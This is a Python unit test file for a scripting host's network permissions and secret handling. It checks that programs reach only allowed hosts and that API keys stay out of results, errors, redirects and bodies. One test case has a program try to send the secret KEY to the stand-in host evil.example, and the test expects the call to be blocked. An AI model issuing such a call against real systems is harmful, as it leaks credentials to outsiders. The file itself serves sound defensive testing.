"""What programs may ask outside, and that secrets stay with the hosts they're for."""

import base64
from pathlib import Path
from urllib.parse import quote

import pytest

from hub.errors import ToolError
from hub.packages.scripts import Scripts
from hub.ports import Fetched
from hub.testing import FakeEgress
from tests.unit.packages.outfit import KEY, a_call, a_program, an_answer, supplies, tool_of

PERMISSIONS = 'net = ["api.example.org", "api.example.org:8443"]\nsecrets = ["KEY", "EMPTY"]'
HERE = "https://api.example.org/"


async def run(
    folder: Path, scripts: Scripts, program: str, answers: dict[str, Fetched] | None = None, effect: str = "once"
) -> tuple[str, FakeEgress]:
    """Run a program and return its result, or its error, and whom it asked."""
    given = supplies(answers or {HERE: an_answer("{}")})
    assert isinstance(given.egress, FakeEgress)
    tool = tool_of(a_program(folder, PERMISSIONS, program, effect), scripts, given)
    try:
        return await tool.call(a_call()), given.egress
    except ToolError as error:
        return str(error), given.egress


@pytest.mark.parametrize(
    ("call", "sent"),
    [
        (f'get("{HERE}", headers={{"Accept": "text/plain"}})', ("GET", HERE, {"accept": "text/plain"}, None)),
        (
            f'post("{HERE}", {{"a": [1, "é"]}})',
            ("POST", HERE, {"content-type": "application/json"}, '{"a":[1,"é"]}'.encode()),
        ),
        (
            f'post("{HERE}", "a=1", headers={{"Content-Type": "application/x-www-form-urlencoded"}})',
            ("POST", HERE, {"content-type": "application/x-www-form-urlencoded"}, b"a=1"),
        ),
        (f'request("DELETE", "{HERE}")', ("DELETE", HERE, {}, None)),
        (
            f'request("PUT", url="{HERE}", body="é")',
            ("PUT", HERE, {"content-type": "text/plain; charset=utf-8"}, "é".encode()),
        ),
    ],
)
async def test_a_request_goes_out_as_it_was_written(
    call: str, sent: tuple[str, str, dict[str, str], bytes | None], tmp_path: Path, scripts: Scripts
) -> None:
    result, egress = await run(tmp_path, scripts, f"return (await {call}).status")

    assert result == "200"
    assert egress.asked == [sent]


async def test_a_tool_without_effect_only_gets(tmp_path: Path, scripts: Scripts) -> None:
    for call in (f'post("{HERE}", "x")', f'request("PUT", "{HERE}")'):
        result, egress = await run(tmp_path, scripts, f"await {call}", effect="none")

        assert 'a tool with effect "none" may only get' in result
        assert egress.asked == []


async def test_what_people_write_in_a_query_is_made_a_urls(tmp_path: Path, scripts: Scripts) -> None:
    asked = f"{HERE}?q=K%C3%B6ln%20am%20Rhein"
    result, egress = await run(
        tmp_path,
        scripts,
        f'return (await get("{HERE}?q=Köln am Rhein")).text',
        {asked: an_answer("sunny", "text/plain")},
    )

    assert (result, egress.asked[0][1]) == ("sunny", asked)


@pytest.mark.parametrize(
    ("body", "kind", "text"),
    [
        ("é".encode("latin-1"), "text/plain; charset=iso-8859-1", "é"),
        (b"\xff", "text/plain", "�"),
        (b"abc", "text/plain; charset=zlib_codec", "abc"),
        (b"abc", "text/plain; charset=punycode", "abc"),
        (b"abc", "", "abc"),
    ],
)
async def test_an_answers_text_is_read_as_it_says(
    body: bytes, kind: str, text: str, tmp_path: Path, scripts: Scripts
) -> None:
    answers = {HERE: Fetched(url="", status=200, headers={"content-type": kind}, body=body)}

    assert (await run(tmp_path, scripts, f'return (await get("{HERE}")).text', answers))[0] == text


@pytest.mark.parametrize("body", ["[" * 100_000, "{", "", "[" * 5_000 + "]" * 5_000])
async def test_what_is_no_json_is_none(body: str, tmp_path: Path, scripts: Scripts) -> None:
    program = f'answer = await get("{HERE}")\nreturn answer.json is None or len(answer.json) == 1'

    assert (await run(tmp_path, scripts, program, {HERE: an_answer(body)}))[0] == "true"


async def test_an_error_outside_can_be_caught(tmp_path: Path, scripts: Scripts) -> None:
    program = 'try:\n    await get("https://api.example.org/gone")\nexcept OSError as error:\n    return str(error)'

    assert (await run(tmp_path, scripts, program))[0] == "https://api.example.org/gone: nobody answers there"


# --- secrets


@pytest.mark.parametrize(
    ("call", "url", "header"),
    [
        (f'get("{HERE}", headers={{"authorization": "Bearer {{{{KEY}}}}"}})', HERE, f"Bearer {KEY}"),
        (f'get("{HERE}?a=b&key={{{{KEY}}}}")', f"{HERE}?a=b&key={quote(KEY, safe='')}", None),
        (f'get("{HERE}?key=%7B%7BKEY%7D%7D")', f"{HERE}?key={quote(KEY, safe='')}", None),
    ],
)
async def test_a_secret_is_put_in_at_the_edge(
    call: str, url: str, header: str | None, tmp_path: Path, scripts: Scripts
) -> None:
    result, egress = await run(tmp_path, scripts, f"return (await {call}).url", {url: an_answer("{}")})

    assert [(asked[1], asked[2].get("authorization")) for asked in egress.asked] == [(url, header)]
    assert KEY not in result
    assert quote(KEY, safe="") not in result


@pytest.mark.parametrize(
    "echo",
    [
        KEY,
        quote(KEY, safe=""),
        quote(KEY),
        base64.b64encode(KEY.encode()).decode(),
        "".join(f"\\u{ord(letter):04x}" for letter in KEY),
    ],
)
async def test_a_secret_that_is_echoed_is_not_read(echo: str, tmp_path: Path, scripts: Scripts) -> None:
    answers = {HERE: an_answer(f'{{"echo": "{echo}"}}', x=f"got {echo}")}
    program = f'a = await get("{HERE}")\nreturn [a.headers["x"], a.json["echo"]]'

    result, _ = await run(tmp_path, scripts, program, answers)

    assert result.endswith(',"{{KEY}}"]'), result
    assert KEY not in result


async def test_a_secret_in_an_errors_words_is_not_read(tmp_path: Path, scripts: Scripts) -> None:
    result, _ = await run(tmp_path, scripts, f'await get("{HERE}?key={{{{KEY}}}}")')

    assert "key={{KEY}}: nobody answers there" in result
    assert KEY not in result


async def test_a_host_that_sends_on_is_not_followed_with_a_secret(tmp_path: Path, scripts: Scripts) -> None:
    answers = {
        HERE: an_answer("", status=302, location="https://api.example.org:8443/"),
        f"{HERE[:-1]}:8443/": an_answer(""),
    }
    plain, egress = await run(tmp_path, scripts, f'return (await get("{HERE}")).status', answers)
    assert (plain, len(egress.asked)) == ("200", 2)

    result, egress = await run(tmp_path, scripts, f'await get("{HERE}", headers={{"x": "{{{{KEY}}}}"}})', answers)

    assert "redirects" in result
    assert [asked[1] for asked in egress.asked] == [HERE]


@pytest.mark.parametrize(
    ("call", "said"),
    [
        ('get("https://api.example.org/{{KEY}}")', "a secret stands in a header or in the value of a query"),
        ('get("https://api.example.org/%7B%7BKEY%7D%7D")', "a secret stands in a header or in the value of a query"),
        ('get("https://api.example.org/?{{KEY}}=1")', "a secret stands in a header or in the value of a query"),
        ('get("https://api.example.org/?a=1#{{KEY}}")', "a secret stands in a header or in the value of a query"),
        ('get("https://{{KEY}}.example.org/")', "isn't a URL"),
        ('get("https://evil.example/?a={{KEY}}")', "evil.example:443 isn't among the hosts it may ask"),
        (
            'get("https://api.example.org/?a={{OTHER}}")',
            "{{OTHER}}: the package has no such secret; permissions.secrets",
        ),
        ('get("https://api.example.org/", headers={"a": "{{OTHER}}"})', "{{OTHER}}: the package has no such secret"),
        ('get("https://api.example.org/?a={{EMPTY}}")', "secret EMPTY isn't set; whoever runs this hub puts it into"),
    ],
)
async def test_a_secret_goes_nowhere_else(call: str, said: str, tmp_path: Path, scripts: Scripts) -> None:
    result, egress = await run(tmp_path, scripts, f"await {call}")

    assert said in result
    assert egress.asked == []
    assert KEY not in result


async def test_a_body_carries_no_secret(tmp_path: Path, scripts: Scripts) -> None:
    _, egress = await run(tmp_path, scripts, f'await post("{HERE}", "{{{{KEY}}}}")')

    assert egress.asked[0][3] == b"{{KEY}}"


async def test_an_outside_that_breaks_tells_no_secret(tmp_path: Path, scripts: Scripts) -> None:
    class Broken(FakeEgress):
        async def fetch(self, url: str, **_: object) -> Fetched:
            raise ValueError(f"can't read {url}")

    given = supplies()
    given.egress = Broken()
    plugin = a_program(tmp_path, PERMISSIONS, f'await get("{HERE}?key={{{{KEY}}}}")')

    with pytest.raises(ToolError, match=r"api\.example\.org couldn't be asked$"):
        await tool_of(plugin, scripts, given).call(a_call())
